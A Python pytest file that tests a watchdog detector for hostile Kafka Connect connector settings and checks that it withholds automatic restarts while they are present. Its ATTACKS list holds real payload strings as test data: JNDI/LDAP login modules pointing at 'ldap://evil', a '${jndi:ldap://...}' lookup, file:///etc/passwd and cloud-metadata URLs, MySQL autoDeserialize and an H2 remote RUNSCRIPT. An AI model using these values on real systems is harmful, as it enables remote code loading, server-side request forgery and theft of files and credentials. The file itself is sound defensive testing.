"""SCENARIOS row 31: configurations by which somebody has a worker run or fetch what he chose."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tests.core.scene import CONFIGS, DRIFT_TRACE, NEW_COLUMN, OLD_COLUMNS, SINK, Scene
from tests.fakes.connect import FakeConnect
from watchdog.model import Code, Request, Severity, Verdict
from watchdog.suspicious import suspicious

JAAS = "producer.override.sasl.jaas.config"
TOKENS = "sasl.oauthbearer.token.endpoint.url"
KEYS = "consumer.override.sasl.oauthbearer.jwks.endpoint.url"
JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x" group.provider.url="x";'

ATTACKS = [
    pytest.param({JAAS: JNDI}, f"{JAAS} names the login module JndiLoginModule", id="JNDI"),
    pytest.param({"database.history.consumer.sasl.jaas.config": JNDI}, "JndiLoginModule", id="of the history"),
    pytest.param({JAAS: JNDI.replace("Jndi", "Ldap")}, "LdapLoginModule", id="LDAP"),
    pytest.param({JAAS: JNDI.replace("required", "REQUIRED")}, "JndiLoginModule", id="upper case flag"),
    pytest.param({JAAS: JNDI.replace(" required", " /**/ required")}, "JndiLoginModule", id="a comment between"),
    pytest.param({JAAS: '"com.sun.security.auth.module.\\112ndiLoginModule" required;'}, "Jndi", id="octal letters"),
    pytest.param({TOKENS: "file:///etc/passwd"}, f"{TOKENS} is fetched by file, not by https", id="a file"),
    pytest.param({TOKENS: "http://idp.example/token"}, "is fetched by http", id="in plain"),
    pytest.param({TOKENS: "gopher://x/1"}, "is fetched by another way", id="an odd scheme"),
    pytest.param({KEYS: "https://169.254.169.254/latest"}, "leads to a bare address", id="metadata by address"),
    pytest.param({KEYS: "https://[::1]/x"}, "leads to a bare address", id="loopback IPv6"),
    pytest.param({KEYS: "https://metadata.google.internal/x"}, "its cloud's metadata", id="metadata by name"),
    pytest.param({KEYS: "https://localhost:8083/connectors"}, "worker's own machine", id="localhost"),
    pytest.param({TOKENS: "https://[x"}, "is no URL", id="no URL"),
    pytest.param({"x": "${jndi:ldap://evil/a}"}, "names a directory to load objects from (jndi:ldap)", id="lookup"),
    pytest.param({"connection.url": "jdbc:mysql://h/d?autoDeserialize=true"}, "autoDeserialize", id="deserialize"),
    pytest.param({"database.autoDeserialize": "true"}, "autoDeserialize", id="deserialize by pass-through"),
    pytest.param({"connection.url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://e'"}, "run a script", id="script"),
    pytest.param({"<img onerror=x>": "x.JndiLoginModule"}, "a setting of an odd name names", id="a hostile key"),
]

ORDINARY = [
    pytest.param(dict(CONFIGS["dw-sink"].values), id="a sink"),
    pytest.param(dict(CONFIGS["oltp-source"].values), id="a source"),
    pytest.param(
        {JAAS: 'org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="p";'},
        id="PLAIN",
    ),
    pytest.param({TOKENS: "https://idp.example.com/oauth2/token"}, id="an identity provider"),
    pytest.param({TOKENS: "${file:/etc/x:url}"}, id="a reference"),
    pytest.param({TOKENS: ""}, id="empty"),
    pytest.param({"connection.url": "jdbc:mysql://h/d?autoDeserialize=false"}, id="switched off"),
    pytest.param({"transforms.x.topic.regex": "(jndi|ldap)_(.*)"}, id="a pattern"),
]


@pytest.mark.parametrize(("values", "told"), ATTACKS)
def test_row_31_what_may_be_an_attack_is_named_without_its_value(values: dict[str, str], told: str) -> None:
    (line,) = suspicious(values)
    assert told in line
    for value in values.values():
        assert value not in line
    assert "<img" not in line


@pytest.mark.parametrize("values", ORDINARY)
def test_row_31_what_is_ordinary_is_passed_over(values: dict[str, str]) -> None:
    assert suspicious(values) == ()


def test_row_31_it_is_seen_although_the_redactor_hides_the_value() -> None:
    fake = FakeConnect()
    fake.add("s", config={JAAS: JNDI.replace(" required", " /**/ required")})
    config = fake.configs()["s"]
    assert "JndiLoginModule" not in config.get(JAAS)
    assert config.suspicious


def test_row_31_a_jndi_login_is_a_security_finding_and_no_restart_is_sent_though_one_would_help() -> None:
    scene = Scene(target=(*OLD_COLUMNS, NEW_COLUMN))
    good = scene.configs["dw-sink"]
    scene.configs["dw-sink"] = replace(good, suspicious=("sasl.jaas.config names the login module JndiLoginModule",))
    scene.fail(DRIFT_TRACE)
    scene.pass_seconds(600, step=5)
    failure, found = sorted(scene.memory.incidents.values(), key=lambda each: each.code is Code.CONFIG_SUSPICIOUS)
    assert (found.code, found.severity, found.key) == (Code.CONFIG_SUSPICIOUS, Severity.BREAKING, SINK)
    assert "JndiLoginModule" in found.diagnosis.cause.message
    assert scene.restarts == 0
    assert (failure.verdict, "may be an attack" in failure.reason) == (Verdict.HOLD, True)
    # A person who knows better is not hindered.
    scene.tick(request=Request("r1", "restart", SINK, scene.now))
    assert scene.restarts == 1


def test_row_31_once_it_is_taken_out_the_finding_ends_and_the_restart_is_sent() -> None:
    scene = Scene(target=(*OLD_COLUMNS, NEW_COLUMN))
    good = scene.configs["dw-sink"]
    scene.configs["dw-sink"] = replace(good, suspicious=("x names JndiLoginModule",), fingerprint="bad")
    scene.fail(DRIFT_TRACE)
    scene.pass_seconds(5)
    scene.configs["dw-sink"] = good
    scene.pass_seconds(10)
    assert scene.restarts == 1
    assert [each.open for each in scene.memory.incidents.values() if each.code is Code.CONFIG_SUSPICIOUS] == [False]
